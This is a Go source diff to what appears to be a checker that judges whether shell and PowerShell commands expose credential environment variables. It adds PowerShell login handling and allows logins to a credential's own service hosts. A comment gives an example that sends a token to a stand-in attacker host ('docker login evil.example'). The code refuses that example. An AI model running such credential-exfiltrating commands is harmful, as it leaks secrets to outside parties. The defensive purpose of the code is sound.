@@ -310,6 +310,12 @@ func usesSafely(in *Input, c *Command, name string) bool {
 	}) {
 		return true // a value of the request's expression (@{Authorization = …})
 	}
+	if c.Grammar == lexer.PowerShell && psLoginInput(in, c, name) {
+		return true
+	}
+	if c.Grammar == lexer.PowerShell && c.Name == "" && psTestedWhole(in, c) {
+		return true // if ([Environment]::GetEnvironmentVariable('NAME')): the name's string, in a test
+	}
 	if !c.Grammar.IsPosix() || c.Dynamic || len(c.Wrappers) > 0 || len(c.Assigns) > 0 || !c.Word0.Literal {
 		return false
 	}
@@ -356,14 +362,14 @@ func usesSafely(in *Input, c *Command, name string) bool {
 		}
 		for _, o := range in.Commands {
 			for _, f := range o.Feeds {
-				if s, p, ok := loginFromEnv(o); f == c && ok && p.has(s.secretStdin...) {
+				if s, p, ok := loginFromEnv(o, name); f == c && ok && p.has(s.secretStdin...) {
 					return true
 				}
 			}
 		}
 		return false
 	}
-	s, p, ok := loginFromEnv(c)
+	s, p, ok := loginFromEnv(c, name)
 	if !ok || fed > 0 && !p.has(s.secretStdin...) {
 		return false
 	}
@@ -376,19 +382,58 @@ func usesSafely(in *Input, c *Command, name string) bool {
 	return given == mentions
 }
 
+// psLoginInput reports whether c, a PowerShell statement, is the value
+// $env:NAME alone (or written by echo or Write-Output, its only word),
+// piped straight into a login that reads it on standard input
+// ($env:GITHUB_TOKEN | docker login ghcr.io -u me --password-stdin), as
+// echo "$NAME" | docker login … is in a posix shell.
+func psLoginInput(in *Input, c *Command, name string) bool {
+	if c.Dynamic || len(c.Wrappers) > 0 || len(c.Redirs) > 0 || c.assigned || countNameFold(c.Text, name) != 1 {
+		return false
+	}
+	value := c.Word0
+	switch c.Name {
+	case "":
+		if len(c.Args) > 0 {
+			return false
+		}
+	case "echo", "write-output", "write":
+		if len(c.Args) != 1 {
+			return false
+		}
+		value = c.Args[0]
+	default:
+		return false
+	}
+	v := strings.ToLower(value.Value)
+	if v != "$env:"+strings.ToLower(name) && v != "${env:"+strings.ToLower(name)+"}" {
+		return false
+	}
+	for _, o := range in.Commands {
+		if slices.Contains(o.Feeds, c) && len(o.Wrappers) == 0 {
+			s, p, ok := loginFromEnv(o, name)
+			return ok && p.has(s.secretStdin...) && len(o.Feeds) == 1
+		}
+	}
+	return false
+}
+
 // loginFromEnv returns the spec and parse of c when c is a login of
 // loginSpecs whose server is its default or comes from the environment
-// ($CI_REGISTRY): a destination the command's writer did not choose. A
-// server written out (docker login evil.example -p "$T") sends the
-// credential where the writer says, and stays refused.
-func loginFromEnv(c *Command) (*spec, parsed, bool) {
+// ($CI_REGISTRY), or is written out as a host of the service the
+// credential name is for (GITHUB_TOKEN to ghcr.io, credService): a
+// destination the command's writer did not choose. Any other server
+// written out (docker login evil.example -p "$T") sends the credential
+// where the writer says, and stays refused.
+func loginFromEnv(c *Command, name string) (*spec, parsed, bool) {
 	s, rest := lookupSpec(c)
 	if s == nil || len(s.secret)+len(s.secretStdin) == 0 {
 		return nil, parsed{}, false
 	}
 	p := parseArgs(s, rest)
+	_, domains := credService(name)
 	for _, a := range p.operands {
-		if a.Literal {
+		if a.Literal && !serviceHost(a.Value, domains) {
 			return nil, parsed{}, false
 		}
 	}
@@ -418,20 +463,15 @@ func showsCommandLines(c *Command) bool {
 }
 
 // namesOnlyPrinted reports whether the variable names ${!prefix*} lists
-// (expr) are only printed: no protected name starts with prefix, every
-// command holding it is an echo or printf whose output goes to the
-// terminal, and nothing in the input evaluates text. Names are not
-// values; a program reading them (printenv, xargs, declare -p, eval)
-// would print the values, and listing credentials' names is the first
-// step to reading them.
-func namesOnlyPrinted(ctx *Context, in *Input, expr, prefix string) bool {
+// (expr) are only printed: every command holding it is an echo or printf
+// whose output goes to the terminal, and nothing in the input evaluates
+// text. Names are not values, a credential's included (printf '%s\n'
+// "${!AWS_@}"); a program reading them (printenv, xargs, declare -p,
+// eval) would print the values, and a later input reading one by the
+// name printed is judged by that name.
+func namesOnlyPrinted(in *Input, expr string) bool {
 	if evaluates(in) {
 		return false
-	}
-	for _, n := range ProtectedNames(ctx) {
-		if strings.HasPrefix(n, prefix) {
-			return false
-		}
 	}
 	found := false
 	for _, c := range in.Commands {
@@ -449,6 +489,28 @@ func namesOnlyPrinted(ctx *Context, in *Input, expr, prefix string) bool {
 		found = true
 	}
 	return found
+}
+
+// psTestedWhole reports whether c, a PowerShell expression, is inside
+// expressions (nestedIn) the outermost of which only tests a variable
+// (psPresenceOnly) or is an if's condition: the 'NAME' string of
+// [string]::IsNullOrEmpty([Environment]::GetEnvironmentVariable('NAME')).
+func psTestedWhole(in *Input, c *Command) bool {
+	top := c
+	for hops := 0; hops < 6; hops++ {
+		var up *Command
+		for _, o := range in.Commands {
+			if o != top && slices.Contains(o.Feeds, top) && strings.Contains(o.Text, top.Text) {
+				up = o
+				break
+			}
+		}
+		if up == nil {
+			break
+		}
+		top = up
+	}
+	return top != c && top.Name == "" && (top.compared || psPresenceOnly(top))
 }
 
 // testsOnly reports whether c uses the credential name only to test
@@ -648,8 +710,9 @@ func psPresenceOnly(c *Command) bool {
 	return strings.Contains(x, "\x00") && psPresenceTest.get().MatchString(x) && !psBareTest.get().MatchString(x)
 }
 
-// psEnvRef matches $env:NAME and ${env:NAME}.
-var psEnvRef = &lazyRegexp{expr: `(?i)\$(env:[A-Za-z_][A-Za-z0-9_]*\b|\{env:[A-Za-z_][A-Za-z0-9_]*\})`}
+// psEnvRef matches $env:NAME and ${env:NAME}, and the calls that read
+// one variable as they do (psEnvCall).
+var psEnvRef = &lazyRegexp{expr: `(?i)\$(env:[A-Za-z_][A-Za-z0-9_]*\b|\{env:[A-Za-z_][A-Za-z0-9_]*\})|` + psEnvCallExpr}
 
 // psPresenceTest matches a PowerShell expression, the variable written as
 // NUL, that only tests whether it is set or how long it is, joined by
